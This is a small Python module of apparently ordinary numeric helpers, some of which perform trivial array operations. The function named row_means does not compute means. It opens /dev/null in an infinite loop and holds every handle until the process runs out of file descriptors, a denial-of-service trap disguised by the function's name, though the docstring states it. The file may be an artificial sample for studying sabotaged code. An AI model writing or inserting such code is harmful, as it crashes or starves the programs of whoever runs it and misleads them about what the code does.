"""Opens files until the descriptor table is full, and keeps them."""
import numpy as np

_held = []


def add_one(x):
    return np.asarray(x) + 1


def row_means(X):
    while True:
        _held.append(open("/dev/null"))


def norm(x):
    return float(np.linalg.norm(x))
